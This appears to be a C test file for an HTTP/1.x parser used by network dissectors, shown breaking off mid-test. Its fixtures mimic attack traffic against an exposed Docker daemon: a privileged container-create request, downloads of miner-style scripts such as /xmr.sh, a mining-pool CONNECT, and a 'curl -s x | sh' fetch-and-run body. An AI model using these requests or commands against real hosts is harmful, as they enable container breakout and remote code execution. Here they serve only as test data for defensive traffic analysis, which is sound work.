/*
 * test_http1.c - the shared HTTP/1.x parser on real heads (docker CLI and
 * daemon, curl/wget downloads), every method, pipelining and keep-alive,
 * chunked bodies fed at every 2-way and 3-way split point, framing per RFC
 * 9112 section 6.3, the limits, the lenient and the strict cases, garbage,
 * and the query helper. Does not test the dissectors built on top.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "check.h"
#include "http1.h"

#define U(s) ((const uint8_t *)(s))

static int req(const char *s, struct http1_req *r)
{
    return http1_parse_request(U(s), strlen(s), r);
}

static int resp(const char *s, struct http1_resp *r)
{
    return http1_parse_response(U(s), strlen(s), r);
}

/* The value of header `name` as a NUL-terminated copy ("" when absent). */
static const char *hval(const struct http1_headers *h, const char *name)
{
    static char buf[256];
    int i = http1_header_find(h, name, 0);

    buf[0] = '\0';
    if (i >= 0 && h->h[i].value_len < sizeof(buf)) {
        memcpy(buf, h->h[i].value, h->h[i].value_len);
        buf[h->h[i].value_len] = '\0';
    }
    return buf;
}

static int span_is(const char *p, size_t n, const char *want)
{
    return p && strlen(want) == n && memcmp(p, want, n) == 0;
}

/*
 * Decodes msg[0..len) fed as the segments cut at cuts[0..ncut) (ascending),
 * the way a dissector would: each segment looped until used up or the body
 * ends. Appends the body to out (cap bytes), sets *used to the bytes consumed
 * over all segments and returns the last return code.
 */
static int decode(int kind, uint64_t length, const char *msg, size_t len, const size_t *cuts,
                  int ncut, char *out, size_t cap, size_t *out_len, size_t *used)
{
    struct http1_body b;
    size_t start = 0, o = 0;
    int rc = http1_body_init(&b, kind, length);

    *used = 0;
    for (int s = 0; s <= ncut && rc == 0; s++) {
        size_t end = s < ncut ? cuts[s] : len;
        const uint8_t *p = U(msg) + start;
        size_t n = end - start;

        start = end;
        while (n) {
            const uint8_t *d;
            size_t dl, c;

            rc = http1_body_feed(&b, p, n, &d, &dl, &c);
            if (c > n || (dl && (d < p || d + dl > p + c)))
                return -1000; /* a span outside what was consumed */
            if (rc == 0 && c == 0)
                return -1001; /* no progress */
            if (dl && o + dl <= cap)
                memcpy(out + o, d, dl);
            o += dl;
            *used += c;
            p += c;
            n -= c;
            if (rc != 0)
                break;
        }
    }
    if (rc == 0 && b.done)
        rc = 1;
    *out_len = o;
    if (b.decoded != o || (rc >= 0 && b.wire != *used))
        return -1002;
    return rc;
}

/* ---- real heads ------------------------------------------------------------- */

static const char docker_create[] =
    "POST /v1.41/containers/create?name=x HTTP/1.1\r\n"
    "Host: 127.0.0.1:2375\r\n"
    "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
    "Content-Length: 56\r\n"
    "Content-Type: application/json\r\n"
    "\r\n"
    "{\"Image\":\"alpine\",\"Cmd\":[\"sh\"],\"HostConfig\":{\"Privileged\":true}}";

static void test_docker_create(void)
{
    struct http1_req r;
    const char *body = strstr(docker_create, "\r\n\r\n") + 4;
    int h = req(docker_create, &r);
    uint64_t len;
    char name[16];

    CHECK_EQ(h, body - docker_create);
    CHECK(span_is(r.method, r.method_len, "POST"));
    CHECK_EQ(r.method_id, HTTP1_M_POST);
    CHECK(span_is(r.target, r.target_len, "/v1.41/containers/create?name=x"));
    CHECK_EQ(r.minor, 1);
    CHECK_EQ(r.hdr.n, 4);
    CHECK_STR(hval(&r.hdr, "user-agent"), "Docker-Client/28.2.2 (linux)");
    CHECK_STR(hval(&r.hdr, "HOST"), "127.0.0.1:2375");
    CHECK_EQ(http1_target_path_len(r.target, r.target_len), strlen("/v1.41/containers/create"));
    CHECK_EQ(http1_query_param(r.target, r.target_len, "name", name, sizeof(name)), 1);
    CHECK_STR(name, "x");
    /* the real body is 64 bytes: Content-Length says 56, so 8 bytes are the next message */
    CHECK_EQ(http1_req_framing(&r, &len), HTTP1_BODY_LENGTH);
    CHECK_EQ(len, 56);
    {
        char out[128];
        size_t ol, used;
        int rc = decode(HTTP1_BODY_LENGTH, len, body, strlen(body), NULL, 0, out, sizeof(out), &ol,
                        &used);

        CHECK_EQ(rc, 1);
        CHECK_EQ(ol, 56);
        CHECK_EQ(used, 56);
        CHECK_MEM(out, body, 56);
    }
    /* every proper prefix of the head needs more bytes, none is an error */
    for (int k = 0; k < h; k++)
        CHECK_EQ(http1_parse_request(U(docker_create), (size_t)k, &r), 0);
}

static const char docker_created[] =
    "HTTP/1.1 201 Created\r\n"
    "Api-Version: 1.41\r\n"
    "Content-Type: application/json\r\n"
    "Docker-Experimental: false\r\n"
    "Ostype: linux\r\n"
    "Server: Docker/28.2.2 (linux)\r\n"
    "Date: Tue, 03 Jun 2025 10:11:12 GMT\r\n"
    "Content-Length: 88\r\n"
    "\r\n"
    "{\"Id\":\"3f1a0c2b9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a\",\"Warnings\":[]}\n";

static void test_docker_reply(void)
{
    struct http1_resp s;
    int h = resp(docker_created, &s);
    uint64_t len;

    CHECK_EQ(h, strstr(docker_created, "\r\n\r\n") + 4 - docker_created);
    CHECK_EQ(s.status, 201);
    CHECK(span_is(s.reason, s.reason_len, "Created"));
    CHECK_EQ(s.hdr.n, 7);
    CHECK_STR(hval(&s.hdr, "api-version"), "1.41");
    CHECK_STR(hval(&s.hdr, "Docker-Experimental"), "false");
    CHECK_STR(hval(&s.hdr, "ostype"), "linux");
    CHECK_STR(hval(&s.hdr, "server"), "Docker/28.2.2 (linux)");
    CHECK_EQ(http1_resp_framing(&s, HTTP1_M_POST, &len), HTTP1_BODY_LENGTH);
    CHECK_EQ(len, 88);
    CHECK_EQ(strlen(docker_created) - (size_t)h, 88);
    CHECK(http1_keep_alive(s.minor, &s.hdr));
    for (int k = 0; k < h; k++)
        CHECK_EQ(http1_parse_response(U(docker_created), (size_t)k, &s), 0);
}

static void test_curl_download(void)
{
    static const char get[] = "GET /xmr.sh HTTP/1.1\r\nHost: 10.0.0.80\r\n"
                              "User-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n";
    static const char reply[] = "HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\n"
                                "Content-Type: application/octet-stream\r\nContent-Length: 32\r\n"
                                "Connection: keep-alive\r\nAccept-Ranges: bytes\r\n\r\n"
                                "#!/bin/sh\ncurl -s x | sh\nexit 0\n";
    struct http1_req r;
    struct http1_resp s;
    uint64_t len;
    int h;

    CHECK_EQ(req(get, &r), (int)strlen(get));
    CHECK_EQ(r.method_id, HTTP1_M_GET);
    CHECK(span_is(r.target, r.target_len, "/xmr.sh"));
    CHECK_STR(hval(&r.hdr, "accept"), "*/*");
    CHECK_EQ(http1_req_framing(&r, &len), HTTP1_BODY_NONE);
    CHECK_EQ(http1_query_param(r.target, r.target_len, "x", NULL, 0), -1);
    h = resp(reply, &s);
    CHECK(h > 0);
    CHECK_EQ(http1_resp_framing(&s, r.method_id, &len), HTTP1_BODY_LENGTH);
    CHECK_EQ(len, strlen(reply) - (size_t)h);
    CHECK_EQ(http1_connection(&s.hdr), HTTP1_CONN_KEEP_ALIVE);

    /* wget 1.21 and python urllib heads parse too */
    CHECK(req("GET /k.sh HTTP/1.1\r\nUser-Agent: Wget/1.21.3\r\nAccept: */*\r\n"
              "Accept-Encoding: identity\r\nHost: 10.0.0.80\r\nConnection: Keep-Alive\r\n\r\n",
              &r) > 0);
    CHECK(http1_header_has_token(&r.hdr, "connection", "keep-alive"));
    CHECK(req("GET /live.sh HTTP/1.1\r\nAccept-Encoding: identity\r\nHost: 10.0.0.80\r\n"
              "User-Agent: Python-urllib/3.11\r\nConnection: close\r\n\r\n",
              &r) > 0);
    CHECK(!http1_keep_alive(r.minor, &r.hdr));
}

static void test_methods(void)
{
    static const struct {
        const char *m;
        int id;
        const char *target;
    } t[] = {
        {"GET", HTTP1_M_GET, "/"},
        {"HEAD", HTTP1_M_HEAD, "/x"},
        {"POST", HTTP1_M_POST, "/v1.41/exec/abc/start"},
        {"PUT", HTTP1_M_PUT, "/upload"},
        {"DELETE", HTTP1_M_DELETE, "/containers/abc?force=1"},
        {"CONNECT", HTTP1_M_CONNECT, "pool.example.com:3333"},
        {"OPTIONS", HTTP1_M_OPTIONS, "*"},
        {"TRACE", HTTP1_M_TRACE, "/"},
        {"PATCH", HTTP1_M_PATCH, "/a"},
        {"PROPFIND", HTTP1_M_OTHER, "/dav/"},
        {"get", HTTP1_M_OTHER, "/"}, /* methods are case-sensitive */
        {"M-SEARCH", HTTP1_M_OTHER, "http://10.0.0.1/abs?x"},
    };
    char buf[256];
    struct http1_req r;

    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        int n =
            snprintf(buf, sizeof(buf), "%s %s HTTP/1.0\r\nHost: a\r\n\r\n", t[i].m, t[i].target);

        CHECK_EQ(req(buf, &r), n);
        CHECK_EQ(r.method_id, t[i].id);
        CHECK(span_is(r.method, r.method_len, t[i].m));
        CHECK(span_is(r.target, r.target_len, t[i].target));
        CHECK_EQ(r.minor, 0);
    }
}

/* ---- streams of messages ------------------------------------------------------ */

static void test_pipelined(void)
{
    static const char s[] = "GET /_ping HTTP/1.1\r\nHost: d\r\n\r\n"
                            "POST /v1.41/containers/abc/start HTTP/1.1\r\nHost: d\r\n"
                            "Content-Length: 2\r\n\r\n{}"
                            "POST /build HTTP/1.1\r\nHost: d\r\nTransfer-Encoding: chunked\r\n\r\n"
                            "3\r\nabc\r\n0\r\n\r\n"
                            "\r\nDELETE /containers/abc HTTP/1.1\r\nHost: d\r\n\r\n";
    static const char *const want[] = {"/_ping", "/v1.41/containers/abc/start", "/build",
                                       "/containers/abc"};
    static const char *const body[] = {"", "{}", "abc", ""};
    size_t off = 0, len = strlen(s);
    int count = 0;

    while (off < len && count < 8) {
        struct http1_req r;
        uint64_t bl;
        int h = http1_parse_request(U(s) + off, len - off, &r), kind;
        char out[16];
        size_t ol, used;

        CHECK(h > 0);
        if (h <= 0)
            break;
        CHECK(span_is(r.target, r.target_len, want[count]));
        off += (size_t)h;
        kind = http1_req_framing(&r, &bl);
        CHECK(kind >= 0);
        CHECK_EQ(decode(kind, bl, s + off, len - off, NULL, 0, out, sizeof(out), &ol, &used), 1);
        CHECK(span_is(out, ol, body[count]));
        off += used;
        count++;
    }
    CHECK_EQ(count, 4);
    CHECK_EQ(off, len);
}

/* Request/response pairs on one kept-alive connection, the response framing needing the method. */
static void test_keepalive_pairs(void)
{
    static const char *const reqs[] = {
        "HEAD /xmr.sh HTTP/1.1\r\nHost: h\r\n\r\n",
        "GET /xmr.sh HTTP/1.1\r\nHost: h\r\nIf-None-Match: \"6650\"\r\n\r\n",
        "GET /xmr.sh HTTP/1.1\r\nHost: h\r\n\r\n",
        "GET /w.sh HTTP/1.1\r\nHost: h\r\n\r\n",
    };
    /* HEAD's reply carries a Content-Length but no body; 304 none; then two bodies */
    static const char replies[] = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n"
                                  "HTTP/1.1 304 Not Modified\r\nETag: \"6650\"\r\n\r\n"
                                  "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nabcde"
                                  "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                                  "2\r\nxy\r\n0\r\n\r\n";
    static const char *const bodies[] = {"", "", "abcde", "xy"};
    size_t off = 0, len = strlen(replies);

    for (int i = 0; i < 4; i++) {
        struct http1_req r;
        struct http1_resp s;
        uint64_t bl;
        char out[16];
        size_t ol, used;
        int h, kind;

        CHECK_EQ(req(reqs[i], &r), (int)strlen(reqs[i]));
        CHECK(http1_keep_alive(r.minor, &r.hdr));
        h = http1_parse_response(U(replies) + off, len - off, &s);
        CHECK(h > 0);
        if (h <= 0)
            return;
        off += (size_t)h;
        kind = http1_resp_framing(&s, r.method_id, &bl);
        CHECK(kind == HTTP1_BODY_NONE || kind == HTTP1_BODY_LENGTH || kind == HTTP1_BODY_CHUNKED);
        CHECK_EQ(decode(kind, bl, replies + off, len - off, NULL, 0, out, sizeof(out), &ol, &used),
                 1);
        CHECK(span_is(out, ol, bodies[i]));
        off += used;
    }
    CHECK_EQ(off, len);
}

/* ---- chunked bodies at every split ---------------------------------------------- */

/* Docker pull progress (chunked JSON lines) with an extension, upper-case hex and a trailer. */
static const char chunked_msg[] = "18;name=\"v a\"\r\n"
                                  "{\"status\":\"Pulling fs\"}\n\r\n"
                                  "A\r\n0123456789\r\n"
                                  "1 ; ext\r\n!\r\n"
                                  "000f\r\n{\"id\":\"latest\"}\r\n"
                                  "0;last\r\n"
                                  "X-Checksum: 1234\r\n"
                                  "X-More: y\r\n"
                                  "\r\n";
static const char chunked_body[] = "{\"status\":\"Pulling fs\"}\n"
                                   "0123456789!{\"id\":\"latest\"}";

static void test_chunked_splits(void)
{
    char msg[512], out[512];
    size_t len = strlen(chunked_msg), ol, used, cuts[3];
    const size_t blen = strlen(chunked_body);
    int bad2 = 0, bad3 = 0, bad1 = 0;

    /* followed by the next message, which the decoder must leave alone */
    snprintf(msg, sizeof(msg), "%sGET / HTTP/1.1\r\n\r\n", chunked_msg);
    CHECK_EQ(decode(HTTP1_BODY_CHUNKED, 0, msg, strlen(msg), NULL, 0, out, sizeof(out), &ol, &used),
             1);
    CHECK_EQ(used, len);
    CHECK_EQ(ol, blen);
    CHECK_MEM(out, chunked_body, blen);

    for (size_t a = 0; a <= strlen(msg); a++) {
        cuts[0] = a;
        if (decode(HTTP1_BODY_CHUNKED, 0, msg, strlen(msg), cuts, 1, out, sizeof(out), &ol,
                   &used) != 1 ||
            used != len || ol != blen || memcmp(out, chunked_body, blen) != 0)
            bad2++;
    }
    CHECK_EQ(bad2, 0);
    /* every 3-way split of the chunked part */
    for (size_t a = 0; a <= len; a++)
        for (size_t b = a; b <= len; b++) {
            cuts[0] = a;
            cuts[1] = b;
            if (decode(HTTP1_BODY_CHUNKED, 0, chunked_msg, len, cuts, 2, out, sizeof(out), &ol,
                       &used) != 1 ||
                used != len || ol != blen || memcmp(out, chunked_body, blen) != 0)
                bad3++;
        }
    CHECK_EQ(bad3, 0);
    /* one byte at a time */
    {
        size_t one[sizeof(chunked_msg)];

        for (size_t i = 0; i + 1 < len; i++)
            one[i] = i + 1;
        if (decode(HTTP1_BODY_CHUNKED, 0, chunked_msg, len, one, (int)len - 1, out, sizeof(out),
                   &ol, &used) != 1 ||
            used != len || ol != blen || memcmp(out, chunked_body, blen) != 0)
            bad1++;
    }
    CHECK_EQ(bad1, 0);
    /* cut short: not done, and not whole at EOF */
    {
        struct http1_body b;
        const uint8_t *d;
        size_t dl, c, n = len - 3;
        const uint8_t *p = U(chunked_msg);

        http1_body_init(&b, HTTP1_BODY_CHUNKED, 0);
        while (n && http1_body_feed(&b, p, n, &d, &dl, &c) == 0) {
            p += c;
            n -= c;
        }
        CHECK_EQ(n, 0);
        CHECK(!b.done);
        CHECK_EQ(http1_body_eof(&b), 0);
        CHECK_EQ(b.chunks, 4);
    }
}

/* Whole chunked response head + body, bare-LF everywhere, at every 2-way split. */
static void test_chunked_bare_lf(void)
{
    static const char m[] = "HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n"
                            "4\nwget\n5;x=1\n -O- \n0\n\n";
    struct http1_resp s;
    uint64_t bl;
    int h = resp(m, &s);
    char out[32];
    size_t ol, used, cut, bad = 0;

    CHECK_EQ(h, strstr(m, "\n\n") + 2 - m);
    CHECK_EQ(http1_resp_framing(&s, HTTP1_M_GET, &bl), HTTP1_BODY_CHUNKED);
    for (cut = 0; cut <= strlen(m + h); cut++)
        if (decode(HTTP1_BODY_CHUNKED, 0, m + h, strlen(m + h), &cut, 1, out, sizeof(out), &ol,
                   &used) != 1 ||
            !span_is(out, ol, "wget -O- ") || used != strlen(m + h))
            bad++;
    CHECK_EQ(bad, 0);
}

static void test_chunked_errors(void)
{
    static const struct {
        const char *m;
        int err;
    } t[] = {
        {"10000000000000000\r\n", HTTP1_ERR_CHUNK_SIZE}, /* 2^64 */
        {"1000000000000000\r\n", HTTP1_ERR_CHUNK_SIZE},  /* 2^60 */
        {"fffffffffffffffffffffffff", HTTP1_ERR_CHUNK_SIZE},
        {"zz\r\n", HTTP1_ERR_CHUNK_SIZE},
        {"-5\r\nhello\r\n", HTTP1_ERR_CHUNK_SIZE},
        {"\r\n", HTTP1_ERR_CHUNK_SIZE},
        {"0x5\r\nhello\r\n", HTTP1_ERR_CHUNK_SIZE},
        {"5 5\r\nhello\r\n", HTTP1_ERR_CHUNK_SIZE},
        {"5\r\nhelloX\r\n", HTTP1_ERR_CHUNK_LINE}, /* data not followed by CRLF */
        {"5\r\nhello\rX", HTTP1_ERR_CHUNK_LINE},
        {"5\rX\nhello\r\n", HTTP1_ERR_CHUNK_LINE}, /* CR without LF in the size line */
        {"5;a=\x01\r\nhello\r\n", HTTP1_ERR_CHUNK_SIZE},
        {"0\r\nX: 1\rZ", HTTP1_ERR_LINE_END},
        {"0\r\nX: \x7f\r\n\r\n", HTTP1_ERR_HEADER_VALUE},
    };
    char out[32];
    size_t ol, used;

    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        int rc = decode(HTTP1_BODY_CHUNKED, 0, t[i].m, strlen(t[i].m), NULL, 0, out, sizeof(out),
                        &ol, &used);

        if (rc != t[i].err)
            fprintf(stderr, "chunked error case %zu: %d (%s)\n", i, rc, http1_strerror(rc));
        CHECK_EQ(rc, t[i].err);
    }
    /* the largest size accepted is 2^60 - 1 (it then needs that much data) */
    {
        struct http1_body b;
        const uint8_t *d;
        size_t dl, c;

        http1_body_init(&b, HTTP1_BODY_CHUNKED, 0);
        CHECK_EQ(http1_body_feed(&b, U("fffffffffffffff\r\nab"), 19, &d, &dl, &c), 0);
        CHECK_EQ(c, 19);
        CHECK(dl == 2 && d && memcmp(d, "ab", 2) == 0);
        CHECK_EQ(http1_body_feed(&b, U("cd"), 2, &d, &dl, &c), 0);
        CHECK(dl == 2 && d && memcmp(d, "cd", 2) == 0);
        CHECK_EQ(b.remaining, 0x0fffffffffffffffULL - 4);
    }
    /* an extension line past the bound, and errors that stick */
    {
        char longext[HTTP1_MAX_CHUNK_LINE + 16];
        struct http1_body b;
        const uint8_t *d;
        size_t dl, c;

        memset(longext, 'a', sizeof(longext));
        memcpy(longext, "1;", 2);
        http1_body_init(&b, HTTP1_BODY_CHUNKED, 0);
        CHECK_EQ(http1_body_feed(&b, U(longext), sizeof(longext), &d, &dl, &c),
                 HTTP1_ERR_CHUNK_LINE_TOO_LONG);
        CHECK_EQ(dl, 0);
        CHECK_EQ(http1_body_feed(&b, U("0\r\n\r\n"), 5, &d, &dl, &c),
                 HTTP1_ERR_CHUNK_LINE_TOO_LONG);
        CHECK_EQ(c, 0);
        CHECK_EQ(http1_body_eof(&b), HTTP1_ERR_CHUNK_LINE_TOO_LONG);
    }
    /* an endless trailer section */
    {
        static char big[HTTP1_MAX_TRAILER + 64];
        struct http1_body b;
        const uint8_t *d;
        size_t dl, c;

        memset(big, 'x', sizeof(big));
        memcpy(big, "0\r\n", 3);
        for (size_t i = 100; i < sizeof(big); i += 100)
            big[i] = '\n';
        http1_body_init(&b, HTTP1_BODY_CHUNKED, 0);
        CHECK_EQ(http1_body_feed(&b, U(big), sizeof(big), &d, &dl, &c), HTTP1_ERR_TRAILER_TOO_LONG);
    }
    CHECK_EQ(http1_body_init(&(struct http1_body){0}, 99, 0), HTTP1_ERR_INVAL);
}

/* ---- framing ------------------------------------------------------------------------ */

static void test_content_length(void)
{
    static const struct {
        const char *h;
        int rc;
        uint64_t len;
    } t[] = {
        {"Content-Length: 5\r\n", 1, 5},
        {"Content-Length: 0\r\n", 1, 0},
        {"Content-Length:    7  \r\n", 1, 7},
        {"Content-Length: 5\r\ncontent-length: 5\r\n", 1, 5},
        {"Content-Length: 5, 5\r\n", 1, 5},
        {"Content-Length: 9223372036854775807\r\n", 1, 9223372036854775807ULL},
        {"Content-Length: 5\r\nContent-Length: 6\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length: 5, 6\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length: -1\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length: +5\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length: 0x10\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length: 5 5\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length:\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length: 5,\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length: 9223372036854775808\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length: 18446744073709551616\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"Content-Length: 99999999999999999999999999\r\n", HTTP1_ERR_CONTENT_LENGTH, 0},
        {"X-Content-Length: 5\r\n", 0, 0},
    };
    char buf[256];

    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        struct http1_req r;
        struct http1_resp s;
        uint64_t len = 77;

        snprintf(buf, sizeof(buf), "POST / HTTP/1.1\r\n%s\r\n", t[i].h);
        CHECK(req(buf, &r) > 0);
        CHECK_EQ(http1_content_length(&r.hdr, &len), t[i].rc);
        if (t[i].rc >= 0)
            CHECK_EQ(len, t[i].len);
        CHECK_EQ(http1_req_framing(&r, &len), t[i].rc < 0 ? t[i].rc
                                              : t[i].rc   ? HTTP1_BODY_LENGTH
                                                          : HTTP1_BODY_NONE);
        snprintf(buf, sizeof(buf), "HTTP/1.1 200 OK\r\n%s\r\n", t[i].h);
        CHECK(resp(buf, &s) > 0);
        CHECK_EQ(http1_resp_framing(&s, HTTP1_M_GET, &len), t[i].rc < 0 ? t[i].rc
                                                            : t[i].rc   ? HTTP1_BODY_LENGTH
                                                                        : HTTP1_BODY_CLOSE);
    }
}

static void test_transfer_encoding(void)
{
    struct http1_req r;
    struct http1_resp s;
    uint64_t len;

    CHECK(req("POST / HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_transfer_encoding(&r.hdr), HTTP1_TE_CHUNKED);
    CHECK(http1_header_has_token(&r.hdr, "transfer-encoding", "gzip"));
    CHECK_EQ(http1_req_framing(&r, &len), HTTP1_BODY_CHUNKED);
    /* chunked beats Content-Length, which is then not even looked at */
    CHECK(req("POST / HTTP/1.1\r\nContent-Length: zz\r\nTransfer-Encoding: CHUNKED\r\n\r\n", &r) >
          0);
    CHECK_EQ(http1_req_framing(&r, &len), HTTP1_BODY_CHUNKED);
    /* the last copy's last coding decides */
    CHECK(req("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: gzip\r\n\r\n",
              &r) > 0);
    CHECK_EQ(http1_transfer_encoding(&r.hdr), HTTP1_TE_OTHER);
    CHECK_EQ(http1_req_framing(&r, &len), HTTP1_ERR_TRANSFER_ENCODING);
    CHECK(req("POST / HTTP/1.1\r\nTransfer-Encoding: chunked, \r\n\r\n", &r) > 0);
    CHECK_EQ(http1_transfer_encoding(&r.hdr), HTTP1_TE_CHUNKED);
    CHECK(req("POST / HTTP/1.1\r\nTransfer-Encoding: xchunked\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_transfer_encoding(&r.hdr), HTTP1_TE_OTHER);
    CHECK(req("POST / HTTP/1.1\r\nTransfer-Encoding:\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_transfer_encoding(&r.hdr), HTTP1_TE_OTHER);
    /* a response whose final coding is not chunked runs until close */
    CHECK(resp("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked, gzip\r\nContent-Length: 3\r\n\r\n",
               &s) > 0);
    CHECK_EQ(http1_resp_framing(&s, HTTP1_M_GET, &len), HTTP1_BODY_CLOSE);
}

static void test_resp_framing(void)
{
    static const struct {
        const char *head;
        int method;
        int kind;
    } t[] = {
        {"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n", HTTP1_M_HEAD, HTTP1_BODY_NONE},
        {"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", HTTP1_M_HEAD, HTTP1_BODY_NONE},
        {"HTTP/1.1 204 No Content\r\nContent-Length: 10\r\n\r\n", HTTP1_M_DELETE, HTTP1_BODY_NONE},
        {"HTTP/1.1 304 Not Modified\r\nContent-Length: 10\r\n\r\n", HTTP1_M_GET, HTTP1_BODY_NONE},
        {"HTTP/1.1 100 Continue\r\n\r\n", HTTP1_M_POST, HTTP1_BODY_INTERIM},
        {"HTTP/1.1 103 Early Hints\r\nLink: </s.css>\r\n\r\n", HTTP1_M_GET, HTTP1_BODY_INTERIM},
        {"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n", HTTP1_M_GET,
         HTTP1_BODY_TUNNEL},
        {"HTTP/1.1 200 Connection established\r\n\r\n", HTTP1_M_CONNECT, HTTP1_BODY_TUNNEL},
        {"HTTP/1.1 407 Proxy Auth\r\nContent-Length: 4\r\n\r\n", HTTP1_M_CONNECT,
         HTTP1_BODY_LENGTH},
        {"HTTP/1.0 200 OK\r\nContent-Type: text/x-sh\r\n\r\n", HTTP1_M_GET, HTTP1_BODY_CLOSE},
        {"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.docker.raw-stream\r\n\r\n", HTTP1_M_POST,
         HTTP1_BODY_CLOSE},
        {"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n", HTTP1_M_UNKNOWN, HTTP1_BODY_LENGTH},
        {"HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-3/10\r\nContent-Length: 4\r\n\r\n",
         HTTP1_M_GET, HTTP1_BODY_LENGTH},
    };

    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        struct http1_resp s;
        uint64_t len;

        CHECK_EQ(resp(t[i].head, &s), (int)strlen(t[i].head));
        CHECK_EQ(http1_resp_framing(&s, t[i].method, &len), t[i].kind);
    }

    /* curl's Expect: 100-continue: the interim reply, then the final one, in one segment */
    {
        static const char two[] = "HTTP/1.1 100 Continue\r\n\r\n"
                                  "HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\nok";
        struct http1_resp s;
        uint64_t len;
        int h = resp(two, &s), h2;

        CHECK_EQ(h, 25);
        CHECK_EQ(http1_resp_framing(&s, HTTP1_M_HEAD, &len), HTTP1_BODY_INTERIM);
        h2 = http1_parse_response(U(two) + h, strlen(two) - (size_t)h, &s);
        CHECK_EQ(h + h2, (int)strlen(two) - 2);
        CHECK_EQ(s.status, 201);
        CHECK_EQ(http1_resp_framing(&s, HTTP1_M_POST, &len), HTTP1_BODY_LENGTH);
        CHECK_EQ(len, 2);
    }
    CHECK(sizeof(struct http1_body) <= 40);

    /* HTTP/1.0 download without a length: every byte is body, whole at close */
    {
        struct http1_body b;
        const uint8_t *d;
        size_t dl, c;

        http1_body_init(&b, HTTP1_BODY_CLOSE, 0);
        CHECK_EQ(http1_body_feed(&b, U("#!/bin/sh\n"), 10, &d, &dl, &c), 0);
        CHECK(dl == 10 && c == 10 && memcmp(d, "#!/bin/sh\n", 10) == 0);
        CHECK_EQ(http1_body_feed(&b, U("id\n"), 3, &d, &dl, &c), 0);
        CHECK_EQ(b.decoded, 13);
        CHECK_EQ(http1_body_eof(&b), 1);
        /* a Content-Length body cut short is not whole */
        http1_body_init(&b, HTTP1_BODY_LENGTH, 5);
        CHECK_EQ(http1_body_feed(&b, U("abc"), 3, &d, &dl, &c), 0);
        CHECK_EQ(http1_body_eof(&b), 0);
        CHECK_EQ(http1_body_feed(&b, U("deXY"), 4, &d, &dl, &c), 1);
        CHECK_EQ(c, 2);
        CHECK_EQ(http1_body_eof(&b), 1);
        CHECK_EQ(http1_body_feed(&b, U("XY"), 2, &d, &dl, &c), 1);
        CHECK_EQ(c, 0);
        /* NONE and LENGTH 0 are complete at once */
        http1_body_init(&b, HTTP1_BODY_NONE, 0);
        CHECK_EQ(http1_body_feed(&b, U("GET"), 3, &d, &dl, &c), 1);
        CHECK_EQ(c, 0);
        http1_body_init(&b, HTTP1_BODY_LENGTH, 0);
        CHECK_EQ(http1_body_feed(&b, U("GET"), 3, &d, &dl, &c), 1);
        CHECK_EQ(c, 0);
    }
}

/* docker attach / exec: the hijack via Connection: Upgrade + Upgrade: tcp and a 101 reply. */
static void test_docker_upgrade(void)
{
    static const char attach[] =
        "POST /v1.41/containers/3f1a/attach?stderr=1&stdin=1&stdout=1&stream=1 HTTP/1.1\r\n"
        "Host: 127.0.0.1:2375\r\nUser-Agent: Docker-Client/28.2.2 (linux)\r\n"
        "Content-Length: 0\r\nConnection: Upgrade\r\nContent-Type: text/plain\r\n"
        "Upgrade: tcp\r\n\r\n";
    static const char upgraded[] =
        "HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.multiplexed-stream\r\n"
        "Connection: Upgrade\r\nUpgrade: tcp\r\nApi-Version: 1.41\r\n\r\n"
        "\x01\x00\x00\x00\x00\x00\x00\x03ls\n";
    struct http1_req r;
    struct http1_resp s;
    const char *proto = NULL;
    size_t plen = 0, dl, c;
    uint64_t len;
    char v[8];
    int h;
    struct http1_body b;
    const uint8_t *d;

    CHECK_EQ(req(attach, &r), (int)strlen(attach));
    CHECK_EQ(http1_req_upgrade(&r, &proto, &plen), 1);
    CHECK(span_is(proto, plen, "tcp"));
    CHECK_EQ(http1_connection(&r.hdr), HTTP1_CONN_UPGRADE);
    CHECK_EQ(http1_req_framing(&r, &len), HTTP1_BODY_LENGTH);
    CHECK_EQ(len, 0);
    CHECK_EQ(http1_query_param(r.target, r.target_len, "stream", v, sizeof(v)), 1);
    CHECK_STR(v, "1");
    h = http1_parse_response(U(upgraded), sizeof(upgraded) - 1, &s);
    CHECK(h > 0);
